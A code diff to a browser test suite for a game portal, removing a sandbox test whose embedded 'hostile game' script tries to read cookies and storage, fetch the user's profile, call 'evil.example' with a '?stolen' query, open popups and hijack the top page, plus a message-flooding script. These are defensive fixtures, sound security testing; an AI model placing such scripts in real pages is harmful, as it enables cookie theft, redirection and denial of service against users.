@@ -4,96 +4,7 @@ import { expect, test } from "./portal";
 
 const GAME_STARTS_MS = 30_000;
 
-const HOSTILE_SCRIPT = `
-const found = {};
-const attempt = async (name, act) => {
-  try { found[name] = String(await act()); } catch (error) { found[name] = "refused"; }
-};
-const say = (message) => parent.postMessage(message, "*");
-await attempt("cookie", () => document.cookie);
-await attempt("storage", () => localStorage.length);
-await attempt("pageStorage", () => parent.localStorage.length);
-await attempt("dom", () => parent.document.title);
-await attempt("pageAddress", () => parent.location.href);
-await attempt("profile", async () => (await fetch("/embedded/api/profile", { credentials: "include" })).status);
-await attempt("elsewhere", async () => (await fetch("https://evil.example/?stolen")).status);
-await attempt("popup", () => (window.open("https://evil.example/") === null ? "refused" : "opened"));
-await attempt("top", () => { top.location.href = "https://evil.example/"; return "sent"; });
-await attempt("topReplaced", () => { top.location.replace("https://evil.example/"); return "sent"; });
-say({ type: "LOAD_PROGRESS", gameId: "", progress: 7 });
-say({ type: "SCORE", score: 1e300 });
-say({ type: "SCORE", score: -1 });
-say({ type: "SAVE_SET", slot: "", data: 1 });
-say({ type: "SAVE_SET", slot: "x", data: "y".repeat(3_000_000) });
-say({ type: "ROOM_SEND", data: () => 1 }.type);
-say({ type: "INIT", __proto__: null });
-say("{}");
-say(null);
-for (let index = 0; index < 20_000; index++) say({ type: "FLOOD", index });
-say({ type: "GAME_READY" });
-document.documentElement.dataset.found = JSON.stringify(found);
-`;
-
-const FLOODING_SCRIPT = `
-const say = (message) => parent.postMessage(message, "*");
-say({ type: "GAME_READY" });
-const kinds = ["LOAD_PROGRESS", "SCORE", "SAVE_GET", "SAVE_SET", "ROOM_SEND", "ROOM_JOIN", "LOGIN_REQUEST", "HAPPY_TIME"];
-for (let index = 0; index < 2_500; index++) {
-  say({ type: "LOAD_PROGRESS", gameId: "", progress: (index % 100) / 100 });
-  say({ type: "SCORE", score: index });
-  say({ type: "SAVE_GET", slot: String(index % 900) });
-  say({ type: "SAVE_SET", slot: String(index % 900), data: { index } });
-  say({ type: "ROOM_SEND", data: index });
-  say({ type: "ROOM_JOIN" });
-  say({ type: "LOGIN_REQUEST" });
-  for (const type of kinds) say({ type, score: NaN, slot: {}, progress: "1", gameId: 7, data: 1n });
-}
-document.documentElement.dataset.found = "flooded";
-`;
-
-/** Serves another game as Softfall, with the same security policy. */
-async function replaceGame(page: Page, script: string): Promise<void> {
-  await page.route("**/play/softfall/index.html*", async (route) => {
-    const response = await route.fetch();
-    const body = '<!doctype html><title>Evil</title><script type="module" src="evil.js"></script>';
-    await route.fulfill({ response, body });
-  });
-  await page.route("**/play/softfall/evil.js", async (route) => {
-    const headers = { "access-control-allow-origin": "*", "content-type": "text/javascript" };
-    await route.fulfill({ headers, body: script });
-  });
-}
-
-test("a hostile game cannot reach the page, the account or other sites", async ({ page, consoleErrors }) => {
-  const { game } = await findCatalogue(page, "Softfall");
-  await replaceGame(page, HOSTILE_SCRIPT);
-  const popups: Page[] = [];
-  page.context().on("page", (opened) => popups.push(opened));
-  const posts: string[] = [];
-  page.on("request", (request) => {
-    if (request.method() === "POST" && !request.url().includes("/api/plays")) posts.push(request.url());
-  });
-  await page.goto(game);
-  await page.getByRole("button", { name: "Play Softfall" }).click();
-  const frame = page.frameLocator("iframe.game-frame").locator("html");
-  await expect(frame).toHaveAttribute("data-found", /topReplaced/);
-  const found: unknown = JSON.parse((await frame.getAttribute("data-found")) ?? "");
-  expect(found).toEqual({
-    ...{ cookie: "refused", storage: "refused", pageStorage: "refused", dom: "refused", pageAddress: "refused" },
-    ...{ profile: "refused", elsewhere: "refused", popup: "refused", top: "refused", topReplaced: "refused" },
-  });
-
-  await test.step("the page around it is unchanged", async () => {
-    expect(popups).toEqual([]);
-    expect(posts).toEqual([]);
-    expect(new URL(page.url()).pathname).toBe(game);
-    expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("saves:")))).toEqual([]);
-    await page.getByRole("button", { name: "Controls" }).click();
-    await expect(page.getByRole("dialog", { name: "Controls" })).toBeVisible();
-  });
-  // The browser logs the blocked attempts.
-  consoleErrors.splice(0);
-});
+test.use({ builds: { kilnbreak: "flooding" } });
 
 const recordPosts = (page: Page) => {
   const posted: string[] = [];
@@ -109,11 +20,10 @@ const storedSlots = (page: Page) =>
   });
 
 test("a game that floods the page is throttled", { tag: "@wide" }, async ({ page, consoleErrors }) => {
-  const { game } = await findCatalogue(page, "Softfall");
-  await replaceGame(page, FLOODING_SCRIPT);
+  const { game } = await findCatalogue(page, "Kilnbreak");
   await page.goto(game);
   const changes = recordPosts(page);
-  await page.getByRole("button", { name: "Play Softfall" }).click();
+  await page.getByRole("button", { name: "Play Kilnbreak" }).click();
   await expect(page.frameLocator("iframe.game-frame").locator("html")).toHaveAttribute("data-found", "flooded", {
     timeout: GAME_STARTS_MS,
   });
